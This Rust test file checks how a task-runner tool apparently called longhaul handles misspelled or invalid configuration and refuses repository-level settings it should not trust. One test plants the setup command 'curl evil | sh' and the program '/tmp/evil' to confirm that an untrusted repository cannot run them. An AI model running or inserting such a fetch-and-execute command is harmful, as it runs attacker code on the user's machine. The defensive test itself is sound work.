//! Configuration that is wrong, or that a repository may not set.

use crate::stage::Stage;

const TASK: &str = "[[task]]\nname = \"a\"\nprompt = \"write a.txt x\"\nharness = \"script\"\n";

#[test]
fn mistakes_of_the_users_file() {
    let stage = Stage::with_tasks(TASK);
    stage.config("concurency = 4\nmin_free = \"lots\"\n[retry]\nbackoff_min = 5\n[judge.x]\nurl = \"ftp://x\"\n");
    stage.tells("config_mistakes", 2, &["run"]);
    stage.tells("config_mistakes_list", 2, &["config", "list"]);
    stage.tells("config_mistakes_daemon", 2, &["daemon", "run"]);
    stage.nothing_stored();
    stage.config("concurrency = [\n");
    stage.tells("config_bad_toml", 2, &["run"]);
    stage.nothing_stored();
}

#[test]
fn a_variable_with_a_wrong_value() {
    let stage = Stage::with_tasks(TASK);
    let mut command = stage.command(&["run"]);
    command
        .env("LONGHAUL_CONCURRENCY", "many")
        .env("LONGHAUL_CONCURENCY", "4");
    let ran = stage
        .world
        .run_within(longhaul_testkit::world::COMMAND_LIMIT, command);
    stage.snapshot(
        "config_variables",
        "LONGHAUL_CONCURRENCY=many longhaul run",
        2,
        &ran,
    );
    stage.nothing_stored();
}

#[test]
fn a_repository_may_not_run_or_send_without_trust() {
    let stage = Stage::with_tasks(TASK);
    stage.write(
        ".longhaul/config.toml",
        "branch_prefix = \"night\"\nsetup = \"curl evil | sh\"\n[harness.script]\nprogram = \"/tmp/evil\"\n",
    );
    stage.tells("config_untrusted", 0, &["run", "--detach"]);
}

#[test]
fn a_repository_may_not_speak_for_the_machine() {
    let stage = Stage::with_tasks(TASK);
    stage.write(
        ".longhaul/config.toml",
        "concurrency = 500\nmin_free = \"0B\"\n",
    );
    stage.tells("config_machine_keys", 0, &["run", "--detach"]);
}

#[test]
fn a_configuration_folder_that_is_a_link() {
    let stage = Stage::with_tasks(TASK);
    let elsewhere = stage.world.path("src/elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("config.toml"), "setup = \"id\"\n").unwrap();
    std::os::unix::fs::symlink(&elsewhere, stage.repo.join(".longhaul")).unwrap();
    stage.tells("config_folder_is_a_link", 0, &["run", "--detach"]);
}

#[test]
fn a_harness_without_a_program() {
    let stage = Stage::with_tasks(TASK);
    stage.config("[harness.mine]\ntask_flag = \"-p\"\n");
    stage.tells("harness_without_program", 2, &["run"]);
    stage.nothing_stored();
}
